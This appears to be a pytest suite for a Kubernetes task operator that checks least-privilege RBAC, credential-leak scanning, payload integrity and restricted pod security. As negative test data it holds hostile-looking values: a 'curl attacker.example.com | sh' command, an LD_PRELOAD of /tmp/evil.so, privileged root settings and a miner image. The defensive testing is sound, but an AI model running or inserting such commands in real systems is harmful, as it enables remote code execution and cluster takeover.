"""Least privilege and no leaks, asked of the real API server and the real operator.

- The chart's ServiceAccounts, applied from a real ``helm template``: the authorizer's answer
  for a matrix of requests (SubjectAccessReview), and real requests made as those accounts
  (impersonation) that must get a 403, next to the ones they need, which must succeed.
- A user who may only create and read TaskRuns cannot pick the image, the command, the
  ServiceAccount or the pod of the attempt: the CRD refuses or prunes such fields, and the
  Job the operator creates runs the Task's image.
- No S3 credential and no presigned URL reaches a TaskRun, a TaskBatch, an Event, the
  operator's log or a pod's log, through offloaded payloads, outputs, batch items and a
  failing run.
- An offloaded payload changed after the trigger fails the run before the task body runs.
- Task pods and the chart's pods are admitted in a namespace that enforces the
  ``restricted`` Pod Security Standard (non-root, no privilege escalation, no capabilities,
  the RuntimeDefault seccomp profile).
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import re
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, TypeVar

import pytest
import yaml
from kubernetes import client, config

from kubetasks._internal.client import Client
from kubetasks.devcluster import ControlPlane
from kubetasks.devcluster.local import OperatorProcess
from kubetasks.devcluster.nodeagent import NodeAgentProcess
from kubetasks.devcluster.services import S3Server
from kubetasks.errors import PayloadIntegrityError
from kubetasks.protocol.payloads import DEFAULT_INLINE_LIMIT, Encoded, encode_json
from kubetasks.protocol.pod import LABEL_RUN
from tests.cluster import tasks as cluster_tasks
from tests.cluster.conftest import Kubectl
from tests.cluster.helpers import (
    BEHAVE_ENTRYPOINT,
    GROUP,
    VERSION,
    get_run,
    make_run,
    make_task,
    wait_for,
)
from tests.helm_chart import Manifest, find, one, render

pytestmark = pytest.mark.cluster

OPERATOR_SA = "kubetasks-operator"
TASK_SA = "kubetasks-task"
ACCOUNT_KINDS = {"ServiceAccount", "Role", "RoleBinding", "ClusterRole", "ClusterRoleBinding"}
TRUSTED_IMAGE = "registry.example.com/team/trusted-task:1.0"
USER_IMAGE = "attacker.example.com/miner:latest"
T = TypeVar("T")
RESTRICTED = {"pod-security.kubernetes.io/enforce": "restricted",
              "pod-security.kubernetes.io/enforce-version": "latest"}


def present(value: T | None) -> T:
    assert value is not None
    return value


def wire(api: client.ApiClient, obj: object) -> Any:
    """A client model (or a list of them) as the API's JSON: camelCase keys, no nulls."""
    return api.sanitize_for_serialization(obj)  # type: ignore[no-untyped-call]


# --- who may do what ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Subject:
    """A user name and its groups, as the API server sees an authenticated request."""

    user: str
    groups: tuple[str, ...]

    @classmethod
    def service_account(cls, namespace: str, name: str) -> Subject:
        return cls(f"system:serviceaccount:{namespace}:{name}",
                   ("system:serviceaccounts", f"system:serviceaccounts:{namespace}",
                    "system:authenticated"))

    @classmethod
    def person(cls, name: str) -> Subject:
        return cls(name, ("system:authenticated",))


# (verb, resource as kubectl names it: "jobs.batch", "pods/exec", "taskruns.kubetasks.dev",
# namespace; "" is cluster-wide)
Access = tuple[str, str, str]


def allowed(api: client.ApiClient, subject: Subject, access: Access) -> bool:
    """The authorizer's answer (SubjectAccessReview, asked by the admin)."""
    verb, name, namespace = access
    resource, _, subresource = name.partition("/")
    resource, _, group = resource.partition(".")
    review = client.V1SubjectAccessReview(spec=client.V1SubjectAccessReviewSpec(
        user=subject.user, groups=list(subject.groups),
        resource_attributes=client.V1ResourceAttributes(
            verb=verb, group=group, resource=resource, subresource=subresource or None,
            namespace=namespace or None)))
    answer = client.AuthorizationV1Api(api).create_subject_access_review(review)
    return bool(present(answer.status).allowed)


def wrongly_allowed(api: client.ApiClient, subject: Subject, accesses: list[Access]
                    ) -> list[Access]:
    return [access for access in accesses if allowed(api, subject, access)]


def wrongly_denied(api: client.ApiClient, subject: Subject, accesses: list[Access]
                   ) -> list[Access]:
    return [access for access in accesses if not allowed(api, subject, access)]


def wait_allowed(api: client.ApiClient, subject: Subject, access: Access,
                 timeout: float = 15) -> None:
    """RBAC objects reach the authorizer's cache a moment after they are written."""
    deadline = time.monotonic() + timeout
    while not allowed(api, subject, access):
        if time.monotonic() > deadline:
            raise AssertionError(f"{subject.user} never got {access}")
        time.sleep(0.1)


@contextlib.contextmanager
def acting_as(control_plane: ControlPlane, subject: Subject) -> Iterator[client.ApiClient]:
    """An API client whose requests the admin makes on behalf of ``subject``
    (``Impersonate-User``; the API server adds a ServiceAccount's groups itself)."""
    api: client.ApiClient = config.new_client_from_config(  # type: ignore[no-untyped-call]
        config_file=str(control_plane.kubeconfig))
    api.set_default_header("Impersonate-User", subject.user)  # type: ignore[no-untyped-call]
    try:
        yield api
    finally:
        api.close()  # type: ignore[no-untyped-call]


def api_message(exc: client.ApiException) -> str:
    """The ``message`` of the Status the API server answered with."""
    return str(json.loads(present(exc.body))["message"])


def refused(call: Callable[[], object]) -> str:
    """The message of the 403 that ``call`` must get."""
    with pytest.raises(client.ApiException) as caught:
        call()
    assert caught.value.status == 403, caught.value.body
    return api_message(caught.value)


def read_custom(api: client.ApiClient, namespace: str, plural: str, name: str
                ) -> dict[str, Any]:
    found = client.CustomObjectsApi(api).get_namespaced_custom_object(
        GROUP, VERSION, namespace, plural, name)
    assert isinstance(found, dict)
    return found


def list_custom(api: client.ApiClient, namespace: str, plural: str) -> list[dict[str, Any]]:
    found = client.CustomObjectsApi(api).list_namespaced_custom_object(
        GROUP, VERSION, namespace, plural)
    assert isinstance(found, dict)
    return list(found["items"])


def create_custom(api: client.ApiClient, namespace: str, plural: str, body: dict[str, Any],
                  field_validation: str | None = None) -> dict[str, Any]:
    created = client.CustomObjectsApi(api).create_namespaced_custom_object(
        GROUP, VERSION, namespace, plural, body, field_validation=field_validation)
    assert isinstance(created, dict)
    return created


def attempt_jobs(api: client.ApiClient, namespace: str, run: str) -> list[dict[str, Any]]:
    """The Jobs of a run's attempts, as the API's JSON."""
    jobs = client.BatchV1Api(api).list_namespaced_job(
        namespace, label_selector=f"{LABEL_RUN}={run}").items
    return [wire(api, job) for job in jobs]


def run_body(name: str, task: str, **spec: Any) -> dict[str, Any]:
    return {"apiVersion": f"{GROUP}/{VERSION}", "kind": "TaskRun", "metadata": {"name": name},
            "spec": {"task": task, "payload": {"n": 1}, **spec}}


def batch_body(name: str, task: str) -> dict[str, Any]:
    return {"apiVersion": f"{GROUP}/{VERSION}", "kind": "TaskBatch", "metadata": {"name": name},
            "spec": {"task": task, "items": [{"payload": {"n": 1}}]}}


def plain_pod_spec() -> client.V1PodSpec:
    """A pod that chooses its own image and says nothing about its security."""
    return client.V1PodSpec(restart_policy="Never",
                            containers=[client.V1Container(name="c", image=USER_IMAGE)])


def pod_body(name: str) -> client.V1Pod:
    return client.V1Pod(metadata=client.V1ObjectMeta(name=name), spec=plain_pod_spec())


def job_body(name: str) -> client.V1Job:
    return client.V1Job(metadata=client.V1ObjectMeta(name=name), spec=client.V1JobSpec(
        template=client.V1PodTemplateSpec(spec=plain_pod_spec())))


def secret_body(name: str) -> client.V1Secret:
    return client.V1Secret(metadata=client.V1ObjectMeta(name=name),
                           string_data={"AWS_SECRET_ACCESS_KEY": "not-for-tasks"})


# --- the chart's ServiceAccounts ---------------------------------------------------------------


@dataclass(frozen=True)
class ChartAccounts:
    release_namespace: str
    task_namespace: str
    task: Subject
    operator: Subject


@pytest.fixture
def chart_accounts(namespace: str, kube_api: client.ApiClient, kubectl: Kubectl,
                   tmp_path: Path) -> Iterator[ChartAccounts]:
    """The chart's ServiceAccounts and RBAC, from ``helm template`` of a cluster-wide release
    in a namespace of its own whose tasks run in the test's namespace. Only these objects are
    applied: the operator's rights are what is tested, not its Deployment."""
    release_ns = f"{namespace}-release"
    kubectl("create", "namespace", release_ns)
    values = tmp_path / "values.yaml"
    values.write_text(yaml.safe_dump({"tasks": {"namespaces": [namespace]}}))
    objects = [o for o in render([values], namespace=release_ns)
               if o["kind"] in ACCOUNT_KINDS]
    one(objects, "ServiceAccount", TASK_SA, namespace)
    one(objects, "ServiceAccount", OPERATOR_SA, release_ns)
    one(objects, "ClusterRoleBinding")
    manifest = yaml.safe_dump_all(objects)
    accounts = ChartAccounts(release_ns, namespace,
                             Subject.service_account(namespace, TASK_SA),
                             Subject.service_account(release_ns, OPERATOR_SA))
    try:
        kubectl("apply", "-f", "-", input=manifest)
        wait_allowed(kube_api, accounts.task, ("create", "taskruns.kubetasks.dev", namespace))
        wait_allowed(kube_api, accounts.operator, ("create", "jobs.batch", namespace))
        yield accounts
    finally:
        kubectl("delete", "--ignore-not-found", "--wait=false", "-f", "-", input=manifest,
                check=False)
        kubectl("delete", "namespace", release_ns, "--wait=false", check=False)


def test_the_chart_task_account_has_only_what_a_task_needs(
    kube_api: client.ApiClient, chart_accounts: ChartAccounts
) -> None:
    own, other = chart_accounts.task_namespace, chart_accounts.release_namespace
    needed: list[Access] = [
        (verb, resource, own)
        for resource in ("taskruns.kubetasks.dev", "taskbatches.kubetasks.dev")
        for verb in ("create", "get", "list", "watch")
    ]
    forbidden: list[Access] = [
        ("create", "jobs.batch", own), ("create", "pods", own), ("create", "pods/exec", own),
        ("get", "pods", own), ("get", "pods/log", own),
        ("create", "secrets", own), ("get", "secrets", own), ("list", "secrets", own),
        ("watch", "secrets", own), ("get", "configmaps", own),
        ("create", "serviceaccounts/token", own),
        ("create", "rolebindings.rbac.authorization.k8s.io", own),
        ("create", "tasks.kubetasks.dev", own), ("update", "tasks.kubetasks.dev", own),
        ("delete", "taskruns.kubetasks.dev", own), ("patch", "taskruns.kubetasks.dev", own),
        ("patch", "taskruns.kubetasks.dev/status", own),
        ("patch", "taskbatches.kubetasks.dev/status", own),
        ("create", "events", own),
        # Another namespace, and the cluster scope.
        ("create", "taskruns.kubetasks.dev", other), ("get", "taskruns.kubetasks.dev", other),
        ("list", "taskruns.kubetasks.dev", other), ("create", "taskbatches.kubetasks.dev", other),
        ("create", "taskruns.kubetasks.dev", "default"),
        ("list", "taskruns.kubetasks.dev", ""), ("list", "secrets", ""),
        ("get", "secrets", other),
    ]
    assert wrongly_denied(kube_api, chart_accounts.task, needed) == []
    assert wrongly_allowed(kube_api, chart_accounts.task, forbidden) == []


def test_the_chart_operator_account_cannot_read_secrets_or_make_pods(
    kube_api: client.ApiClient, chart_accounts: ChartAccounts
) -> None:
    tasks_ns, own = chart_accounts.task_namespace, chart_accounts.release_namespace
    needed: list[Access] = [
        ("create", "jobs.batch", tasks_ns), ("delete", "jobs.batch", tasks_ns),
        ("list", "pods", tasks_ns), ("list", "taskruns.kubetasks.dev", ""),
        ("patch", "taskruns.kubetasks.dev/status", tasks_ns),
        ("watch", "events", tasks_ns), ("create", "events", tasks_ns),
    ]
    forbidden: list[Access] = [
        (verb, "secrets", ns) for verb in ("get", "list", "watch", "create")
        for ns in (tasks_ns, own, "")
    ] + [
        ("create", "pods", tasks_ns), ("create", "pods", own), ("create", "pods/exec", tasks_ns),
        ("delete", "pods", tasks_ns), ("get", "pods/log", tasks_ns),
        ("create", "serviceaccounts/token", tasks_ns), ("get", "configmaps", tasks_ns),
        ("create", "tasks.kubetasks.dev", tasks_ns), ("update", "taskruns.kubetasks.dev",
                                                      tasks_ns),
        ("create", "deployments.apps", tasks_ns),
        ("create", "rolebindings.rbac.authorization.k8s.io", tasks_ns),
        ("create", "clusterrolebindings.rbac.authorization.k8s.io", ""),
    ]
    assert wrongly_denied(kube_api, chart_accounts.operator, needed) == []
    assert wrongly_allowed(kube_api, chart_accounts.operator, forbidden) == []


def test_the_chart_accounts_are_refused_for_real(
    control_plane: ControlPlane, kube_api: client.ApiClient, chart_accounts: ChartAccounts
) -> None:
    own, other = chart_accounts.task_namespace, chart_accounts.release_namespace
    core = client.CoreV1Api(kube_api)
    core.create_namespaced_secret(own, secret_body("s3-credentials"))
    make_run(kube_api, other, "elsewhere", "x")

    with acting_as(control_plane, chart_accounts.task) as api:
        as_core = client.CoreV1Api(api)
        # What a task needs works (so the refusals below are not the impersonation failing).
        create_custom(api, own, "taskruns", run_body("child", "x"))
        assert read_custom(api, own, "taskruns", "child")["spec"]["task"] == "x"
        create_custom(api, own, "taskbatches", batch_body("fan", "x"))
        assert read_custom(api, own, "taskbatches", "fan")["spec"]["task"] == "x"

        message = refused(lambda: as_core.create_namespaced_secret(own, secret_body("mine")))
        assert f'User "{chart_accounts.task.user}" cannot create resource "secrets"' in message
        refused(lambda: as_core.read_namespaced_secret("s3-credentials", own))
        refused(lambda: as_core.list_namespaced_secret(own))
        refused(lambda: as_core.create_namespaced_pod(own, pod_body("miner")))
        refused(lambda: client.BatchV1Api(api).create_namespaced_job(own, job_body("miner")))
        refused(lambda: create_custom(api, other, "taskruns", run_body("intruder", "x")))
        refused(lambda: read_custom(api, other, "taskruns", "elsewhere"))

    with acting_as(control_plane, chart_accounts.operator) as api:
        as_core = client.CoreV1Api(api)
        as_core.list_namespaced_pod(own)  # granted: the operator reads its attempts' pods
        refused(lambda: as_core.list_namespaced_secret(own))
        refused(lambda: as_core.read_namespaced_secret("s3-credentials", own))
        refused(lambda: as_core.create_namespaced_pod(own, pod_body("direct")))


# --- a user who may only submit runs -----------------------------------------------------------


@pytest.fixture
def alice(namespace: str, kube_api: client.ApiClient) -> Subject:
    """User "alice", allowed to create and read TaskRuns in the test's namespace, nothing
    else."""
    rbac = client.RbacAuthorizationV1Api(kube_api)
    rbac.create_namespaced_role(namespace, client.V1Role(
        metadata=client.V1ObjectMeta(name="run-submitter"),
        rules=[client.V1PolicyRule(api_groups=[GROUP], resources=["taskruns"],
                                   verbs=["create", "get"])]))
    rbac.create_namespaced_role_binding(namespace, client.V1RoleBinding(
        metadata=client.V1ObjectMeta(name="run-submitter-alice"),
        role_ref=client.V1RoleRef(api_group="rbac.authorization.k8s.io", kind="Role",
                                  name="run-submitter"),
        subjects=[client.RbacV1Subject(api_group="rbac.authorization.k8s.io", kind="User",
                                       name="alice")]))
    subject = Subject.person("alice")
    wait_allowed(kube_api, subject, ("create", "taskruns.kubetasks.dev", namespace))
    return subject


def test_a_run_submitter_cannot_define_tasks(
    control_plane: ControlPlane, kube_api: client.ApiClient, namespace: str, alice: Subject
) -> None:
    assert wrongly_allowed(kube_api, alice, [
        ("create", "tasks.kubetasks.dev", namespace), ("update", "tasks.kubetasks.dev",
                                                       namespace),
        ("patch", "tasks.kubetasks.dev", namespace), ("create", "jobs.batch", namespace),
        ("create", "pods", namespace), ("patch", "taskruns.kubetasks.dev/status", namespace),
    ]) == []
    with acting_as(control_plane, alice) as api:
        message = refused(lambda: create_custom(api, namespace, "tasks", {
            "apiVersion": f"{GROUP}/{VERSION}", "kind": "Task", "metadata": {"name": "mine"},
            "spec": {"image": USER_IMAGE, "entrypoint": "evil:main"}}))
    assert 'User "alice" cannot create resource "tasks"' in message


# Fields a TaskRun does not have, that would choose what the attempt's pod runs.
OVERRIDES: dict[str, Any] = {
    "image": USER_IMAGE,
    "command": ["sh", "-c", "curl attacker.example.com | sh"],
    "entrypoint": "evil:main",
    "serviceAccountName": "cluster-admin",
    "env": [{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}],
    "securityContext": {"privileged": True, "runAsUser": 0},
    "container": {"image": USER_IMAGE, "securityContext": {"privileged": True}},
    "podTemplate": {"spec": {"hostNetwork": True, "containers": [
        {"name": "task", "image": USER_IMAGE, "securityContext": {"privileged": True}}]}},
}


def test_a_run_cannot_choose_its_image_command_account_or_pod(
    control_plane: ControlPlane, kube_api: client.ApiClient, namespace: str, alice: Subject,
    operator: OperatorProcess,
) -> None:
    make_task(kube_api, namespace, "trusted", image=TRUSTED_IMAGE)
    payload = {"output": {"ran": "the task's image"}}
    with acting_as(control_plane, alice) as api:
        # Strict field validation rejects the request and names every field it does not know.
        with pytest.raises(client.ApiException) as caught:
            create_custom(api, namespace, "taskruns",
                          run_body("strict", "trusted", payload=payload, **OVERRIDES),
                          field_validation="Strict")
        assert caught.value.status == 400, caught.value.body
        assert api_message(caught.value) == (
            'TaskRun in version "v1alpha1" cannot be handled as a TaskRun: strict decoding '
            "error: " + ", ".join(f'unknown field "spec.{key}"' for key in sorted(OVERRIDES)))
        # By default (fieldValidation=Warn) the run is stored with those fields pruned.
        created = create_custom(api, namespace, "taskruns",
                                run_body("pruned", "trusted", payload=payload, **OVERRIDES))
        stored = read_custom(api, namespace, "taskruns", "pruned")
    assert created["spec"] == stored["spec"] == {"task": "trusted", "payload": payload}
    with pytest.raises(client.ApiException) as missing:
        get_run(kube_api, namespace, "strict")
    assert missing.value.status == 404

    done = wait_for(kube_api, namespace, "pruned", ["Completed", "Failed", "Crashed"])
    assert done["status"]["phase"] == "Completed", done["status"]
    assert done["status"]["output"] == payload["output"]
    jobs = attempt_jobs(kube_api, namespace, "pruned")
    assert len(jobs) == 1
    job = jobs[0]
    pod = job["spec"]["template"]["spec"]
    assert [c["image"] for c in pod["containers"]] == [TRUSTED_IMAGE]
    assert "initContainers" not in pod and "volumes" not in pod
    assert not pod.get("hostNetwork")
    assert pod["serviceAccountName"] == "default"  # the operator's setting, not the user's
    assert pod["containers"][0]["securityContext"]["allowPrivilegeEscalation"] is False
    entrypoint = {e["name"]: e.get("value") for e in pod["containers"][0]["env"]}
    assert entrypoint["KUBETASKS_ENTRYPOINT"] == BEHAVE_ENTRYPOINT
    for value in (USER_IMAGE, "cluster-admin", "LD_PRELOAD", "evil:main", "attacker"):
        assert value not in json.dumps(job), value


# --- no credential or presigned URL in what others can read -----------------------------------


def leak_markers(s3_server: S3Server) -> list[str]:
    env = s3_server.env()
    return [env["AWS_SECRET_ACCESS_KEY"], env["AWS_ACCESS_KEY_ID"], "X-Amz-Signature",
            "X-Amz-Credential", "AWS4-HMAC-SHA256", "Authorization", "Bearer ", "token"]


def leaks(sources: dict[str, str], markers: list[str]) -> list[str]:
    """``source: ...context...`` for each marker found (case-insensitive) in a source."""
    found = []
    for source, text in sources.items():
        for marker in markers:
            for match in re.finditer(re.escape(marker), text, re.IGNORECASE):
                context = text[max(0, match.start() - 80):match.end() + 80]
                found.append(f"{source}: {marker!r} in ...{context}...")
    return found


def pod_logs(api: client.ApiClient, agent: NodeAgentProcess, namespace: str
             ) -> dict[str, str]:
    """Every container log of the namespace's pods, as the node agent wrote it."""
    logs = {}
    for pod in wire(api, client.CoreV1Api(api).list_namespaced_pod(namespace).items):
        name = pod["metadata"]["name"]
        for container in pod["spec"]["containers"]:
            path = agent.pod_log_path(namespace, name, container["name"])
            if path.exists():
                logs[f"log of {name}/{container['name']}"] = path.read_text(errors="replace")
    return logs


def test_no_credential_or_presigned_url_leaks(
    sdk: Client, s3_server: S3Server, operator: OperatorProcess, node_agent: NodeAgentProcess,
    kube_api: client.ApiClient, namespace: str,
) -> None:
    env = s3_server.env()
    secret, key_id = env["AWS_SECRET_ACCESS_KEY"], env["AWS_ACCESS_KEY_ID"]
    # The values searched for are the ones every component really uses: the operator's,
    # this process's (the SDK's boto3 reads them from the environment) and the pods'.
    assert operator.env["AWS_SECRET_ACCESS_KEY"] == secret == os.environ["AWS_SECRET_ACCESS_KEY"]
    assert operator.env["AWS_ACCESS_KEY_ID"] == key_id == os.environ["AWS_ACCESS_KEY_ID"]

    big = cluster_tasks.blob.trigger({"text": "é" * DEFAULT_INLINE_LIMIT, "size": 100_000})
    failing = cluster_tasks.run.trigger({"exit": 65, "pad": "p" * DEFAULT_INLINE_LIMIT},
                                        max_attempts=1)
    batch = cluster_tasks.blob.batch_trigger(
        [{"payload": {"text": str(i) * 30_000, "size": 10}} for i in range(5)])

    done, failed = big.poll(timeout=90), failing.poll(timeout=90)
    assert done.status == "Completed", done.error
    assert done.payload_ref is not None and done.output_ref is not None
    assert failed.status == "Failed" and failed.payload_ref is not None, failed.error
    assert failed.error is not None and failed.error.type == "AbortTaskRunError"
    finished = batch.poll(timeout=120)
    assert finished.status == "Completed", finished.raw.get("status")
    assert "itemsRef" in finished.raw["spec"]
    # What a leak would look like: the SDK's presigned URLs carry the key id and a signature.
    assert done.output_presigned_url is not None
    assert f"X-Amz-Credential={key_id}" in done.output_presigned_url
    assert "X-Amz-Signature=" in done.output_presigned_url
    # The pods had the secret (in this test setup as a plain value of the operator's task
    # env; the chart passes it by Secret reference): whatever they logged was scanned.
    container = attempt_jobs(kube_api, namespace, failed.name)[0]["spec"]["template"][
        "spec"]["containers"][0]
    assert {e["name"]: e.get("value") for e in container["env"]}[
        "AWS_SECRET_ACCESS_KEY"] == secret

    sources: dict[str, str] = {}
    for plural in ("taskruns", "taskbatches"):
        for obj in list_custom(kube_api, namespace, plural):
            sources[f"{plural}/{obj['metadata']['name']}"] = json.dumps(obj)
    events = client.CoreV1Api(kube_api).list_namespaced_event(namespace).items
    sources["events"] = json.dumps(wire(kube_api, events))
    sources["operator log"] = operator.log_path.read_text(errors="replace")
    logs = pod_logs(kube_api, node_agent, namespace)
    sources.update(logs)

    assert len([s for s in sources if s.startswith("taskruns/")]) == 7
    assert events and len(logs) >= 7, (len(events), sorted(logs))
    assert any("payload asked to abort" in text for text in logs.values())
    assert leaks(sources, leak_markers(s3_server)) == []


# --- offloaded payloads are checked before use -------------------------------------------------

# A batch's item list from object storage is checked the same way (its tampered list is
# refused whole): test_batch_operator.py, test_items_from_object_storage_are_fanned_out.


@pytest.mark.parametrize("change", ["rewritten", "truncated"])
def test_a_payload_changed_after_the_trigger_fails_the_run_before_the_task_runs(
    sdk: Client, operator: OperatorProcess, node_agent: NodeAgentProcess,
    kube_api: client.ApiClient, namespace: str, change: str,
) -> None:
    payload = {"lines": ["ORIGINAL-LINE"], "pad": "p" * DEFAULT_INLINE_LIMIT}
    # The delay keeps the run from starting before the object is changed.
    # Three attempts allowed: a payload that fails its check is final, never retried.
    handle = cluster_tasks.say.trigger(payload, delay="5s", max_attempts=3)
    ref = sdk.kube.get_object("taskruns", namespace, handle.name)["spec"]["payloadRef"]
    original, _ = encode_json(payload)
    if change == "rewritten":
        tampered, _ = encode_json({**payload, "lines": ["TAMPERED-LINE"]})
        assert len(tampered) == len(original)
    else:
        tampered = original[:-10]
    assert ref["bucket"] == sdk.storage.settings.bucket
    sdk.storage.put(ref["key"], Encoded(tampered, None))
    assert hashlib.sha256(tampered).hexdigest() != ref["sha256"]
    assert not (get_run(kube_api, namespace, handle.name).get("status") or {}).get(
        "attempts"), "the run started before its payload was changed"

    failed = handle.poll(timeout=60)
    assert failed.status == "Failed", failed.error
    assert failed.attempt_count == 1
    assert failed.error is not None and failed.error.type == "PayloadIntegrityError"
    run = get_run(kube_api, namespace, handle.name)
    succeeded = next(c for c in run["status"]["conditions"] if c["type"] == "Succeeded")
    assert succeeded["reason"] == "Aborted", succeeded
    assert "aborted (PayloadIntegrityError): not retried" in succeeded["message"]
    where = f"s3://{ref['bucket']}/{ref['key']}"
    expected = (f"has SHA-256 {hashlib.sha256(tampered).hexdigest()}, but {ref['sha256']} "
                "was recorded: the object was changed" if change == "rewritten"
                else f"is {len(tampered)} bytes, but {ref['size']} were recorded")
    assert failed.error.message is not None and failed.error.message.startswith(where)
    assert expected in failed.error.message
    # The task body never ran: it would have printed the (original or tampered) line.
    logs = pod_logs(kube_api, node_agent, namespace)
    assert len(logs) == 1, sorted(logs)
    log = next(iter(logs.values()))
    assert "could not start the task" in log
    assert "ORIGINAL-LINE" not in log and "TAMPERED-LINE" not in log
    assert f"attempt 1: {cluster_tasks.say.entrypoint}" not in log
    # The SDK refuses the changed object too.
    with pytest.raises(PayloadIntegrityError, match="recorded: the object was changed"):
        failed.get_payload()


# --- pods run as non-root under the restricted Pod Security Standard -------------------------


def admission_error(api: client.ApiClient, namespace: str, pod: client.V1Pod) -> str | None:
    """Why the API server would refuse ``pod`` (a server-side dry run), or None."""
    try:
        client.CoreV1Api(api).create_namespaced_pod(namespace, pod, dry_run="All")
    except client.ApiException as exc:
        return api_message(exc)
    return None


def restrict(api: client.ApiClient, namespace: str) -> None:
    """Enforce the restricted Pod Security Standard in ``namespace``, and check that it is
    enforced (a pod without any securityContext is refused)."""
    client.CoreV1Api(api).patch_namespace(namespace, {"metadata": {"labels": RESTRICTED}})
    error = admission_error(api, namespace, pod_body("unhardened"))
    assert error is not None and 'violates PodSecurity "restricted:latest"' in error, error


def test_task_pods_are_admitted_under_the_restricted_pod_security_standard(
    kube_api: client.ApiClient, namespace: str, operator: OperatorProcess,
) -> None:
    restrict(kube_api, namespace)
    make_task(kube_api, namespace, "hardened")
    make_run(kube_api, namespace, "r1", "hardened", {"output": {"ok": True}})
    try:
        done = wait_for(kube_api, namespace, "r1", ["Completed", "Failed", "Crashed"])
    except AssertionError:
        refusals = [e.message for e in client.CoreV1Api(kube_api).list_namespaced_event(
            namespace).items if e.reason == "FailedCreate"]
        raise AssertionError(f"the attempt's pod was not admitted: {refusals}") from None
    assert done["status"]["phase"] == "Completed", done["status"]
    pod = attempt_jobs(kube_api, namespace, "r1")[0]["spec"]["template"]["spec"]
    for container in pod["containers"]:
        context = container["securityContext"]
        assert context["runAsNonRoot"] is True
        assert context["allowPrivilegeEscalation"] is False
        assert context["capabilities"] == {"drop": ["ALL"]}
        assert not context.get("privileged")
        assert context.get("runAsUser", 1) != 0
        seccomp = context.get("seccompProfile") or (pod.get("securityContext") or {}).get(
            "seccompProfile")
        assert seccomp == {"type": "RuntimeDefault"}


def pod_of(deployment: Manifest) -> client.V1Pod:
    """The pod a Deployment's template makes."""
    template = deployment["spec"]["template"]
    return present(client.V1Pod.from_dict({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": deployment["metadata"]["name"],
                     "labels": template["metadata"]["labels"]},
        "spec": template["spec"]}))


def test_the_chart_pods_run_as_non_root_under_the_restricted_standard(
    kube_api: client.ApiClient, namespace: str, kubectl: Kubectl,
) -> None:
    objects = render(namespace=namespace)
    deployments = find(objects, "Deployment")
    assert sorted(d["metadata"]["name"] for d in deployments) == [
        "kubetasks-operator", "kubetasks-redis"]
    for deployment in deployments:
        spec = deployment["spec"]["template"]["spec"]
        name = deployment["metadata"]["name"]
        assert spec["securityContext"]["runAsNonRoot"] is True, name
        assert spec["securityContext"]["runAsUser"] > 0, name
        assert spec["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}, name
        for container in spec["containers"]:
            context = container["securityContext"]
            assert context["allowPrivilegeEscalation"] is False, name
            assert context["capabilities"] == {"drop": ["ALL"]}, name
            assert context["readOnlyRootFilesystem"] is True, name
            assert not context.get("privileged"), name
    # The real API server's PodSecurity admission agrees (the operator pod names its
    # ServiceAccount, which must exist for the pod to be admitted).
    restrict(kube_api, namespace)
    kubectl("apply", "-f", "-", input=yaml.safe_dump(
        one(objects, "ServiceAccount", OPERATOR_SA, namespace)))
    for deployment in deployments:
        assert admission_error(kube_api, namespace, pod_of(deployment)) is None
